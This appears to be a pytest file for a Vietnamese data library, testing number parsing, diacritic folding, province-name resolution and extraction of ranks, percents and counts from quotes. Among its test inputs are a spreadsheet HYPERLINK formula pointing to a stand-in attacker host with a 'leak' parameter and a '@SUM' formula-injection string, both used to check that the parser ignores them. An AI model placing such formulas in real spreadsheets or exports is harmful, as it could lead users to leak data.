import unicodedata

import pytest

from dtlib.data.text import fold, nearest, nfc, read_vietnamese_number, resolve_unit


@pytest.mark.parametrize("written, value", [
    ("98,7", 98.7), ("98,7%", 98.7), ("1.761", 1761), ("1.966", 1966), ("0,3081", 0.3081),
    ("460.643", 460643), ("100", 100), ("11,27", 11.27), ("2.255", 2255), (" 35,29 ", 35.29),
    ("1.234.567,5", 1234567.5), ("-0,0052", -0.0052),
])
def test_vietnamese_numbers_are_read(written, value):
    assert read_vietnamese_number(written) == pytest.approx(value)


@pytest.mark.parametrize("written", ["1.5", "12.34", "98.7", "abc", "", "1,2,3", "1.23.456"])
def test_ambiguous_or_foreign_numbers_are_refused(written):
    with pytest.raises(ValueError, match="Vietnamese way"):
        read_vietnamese_number(written)


def test_plain_numbers_pass_when_not_strict():
    assert read_vietnamese_number("98.7", strict=False) == 98.7


def test_fold_removes_diacritics_case_and_d_stroke():
    assert fold("  Tỉnh  ĐIỆN Biên ") == "tinh dien bien"


def test_nfd_input_is_normalised():
    decomposed = unicodedata.normalize("NFD", "Lào Cai")
    assert decomposed != "Lào Cai"
    assert nfc(decomposed) == "Lào Cai"


def test_nearest_ignores_diacritics():
    assert nearest("lao-kai", ["lao-cai", "lai-chau", "quang-binh"]) == ["lao-cai"]


@pytest.mark.parametrize("name", ["lao-cai", "Lào Cai", "Lao Cai", "tỉnh Lào Cai", "LAO CAI",
                                  unicodedata.normalize("NFD", "tỉnh Lào Cai")])
def test_names_and_aliases_resolve_to_the_id(mini, name):
    assert resolve_unit(name, mini.units, on="2022-09-30") == "lao-cai"


def test_a_shared_name_is_settled_by_the_date(mini_dir):
    from dtlib.data.io import read_table
    units = read_table(mini_dir / "units.csv")
    assert resolve_unit("Lào Cai", units, on="2022-01-01") == "lao-cai"
    assert resolve_unit("Lào Cai", units, on="2026-01-01") == "lao-cai-2025"
    with pytest.raises(KeyError, match="may mean any of"):
        resolve_unit("Lào Cai", units)


def test_unknown_unit_suggests_the_nearest_id(mini_dir):
    from dtlib.data.io import read_table
    units = read_table(mini_dir / "units.csv")
    with pytest.raises(KeyError, match="did you mean 'lao-cai'"):
        resolve_unit("lao-kai", units)


def test_a_quote_in_english_is_read_the_english_way():
    from dtlib.data.text import states_value

    quote = "Quang Tri has 1,086 community digital technology teams; 72.63% of dossiers were submitted online."
    assert states_value(quote, 1086, "en") and states_value(quote, 72.63, "en")
    assert not states_value(quote, 1.086, "en")
    assert not states_value(quote, 1086, "vi") and states_value(quote, 1.086, "vi")


@pytest.mark.parametrize("quote, lang, measure, stated", [
    ("Tỉnh đứng thứ 12/63 về chỉ số chuyển đổi số.", "vi", "rank", [12.0]),
    ("đứng thứ 52 trong số 63 tỉnh, thành của cả nước", "vi", "rank", [52.0]),
    ("xếp hạng 1 trong số 34 tỉnh, thành.", "vi", "rank", [1.0]),
    ("Hoạt động chính quyền số đạt vị trí thứ 10 toàn quốc.", "vi", "rank", [10.0]),
    ("the province rose to the No. 1 position with a total of 83.83 points", "en", "rank", [1.0]),
    ("ranked 14th out of 34 provinces", "en", "rank", [14.0]),
    ("Tỉnh đứng thứ 12/63 về chỉ số chuyển đổi số.", "vi", "percent", []),
    ("1.761 trong số 1.966 thủ tục hành chính (đạt 89,5%); 75,5% dịch vụ", "vi", "percent", [89.5, 75.5]),
    ("tỷ lệ đạt 85 phần trăm", "vi", "percent", [85.0]),
    ("1,595 teams; 72.63% of dossiers", "en", "percent", [72.63]),
    ("1,595 teams; 72.63% of dossiers", "en", "count", [1595.0]),
    ("đạt 85‰, có 1.761 Tổ", "vi", "count", [1761.0]),
    ("đạt 85‰, có 1.761 Tổ", "vi", "percent", []),
    ('=HYPERLINK("http://evil.example/?leak=1","bấm vào đây")', "vi", None, []),
    ("xem https://e.example/2023/85-phan-tram, đạt 85%", "vi", None, [85.0]),
    ("@SUM(1+1) đạt", "vi", None, []),
    ("- Tỷ lệ hộ có cáp quang đạt 85%.", "vi", "percent", [85.0]),
])
def test_Q03_Q04_Q05_E09_numbers_in_reads_only_what_can_be_a_value_in_the_measure(quote, lang, measure, stated):
    """A rank is a place, never its denominator; a percent is followed by %; a count is not a share;
    numbers in web addresses and formula text are not stated."""
    from dtlib.data.text import numbers_in, states_value

    assert numbers_in(quote, lang, measure) == stated
    assert all(states_value(quote, n, lang, measure) for n in stated)


def test_Q03_the_denominator_of_a_rank_is_still_a_number_of_the_quote():
    from dtlib.data.text import numbers_in, states_value

    assert numbers_in("Tỉnh đứng thứ 12/63.") == [12.0, 63.0]
    assert states_value("Tỉnh đứng thứ 12/63.", 63) and not states_value("Tỉnh đứng thứ 12/63.", 63, measure="rank")
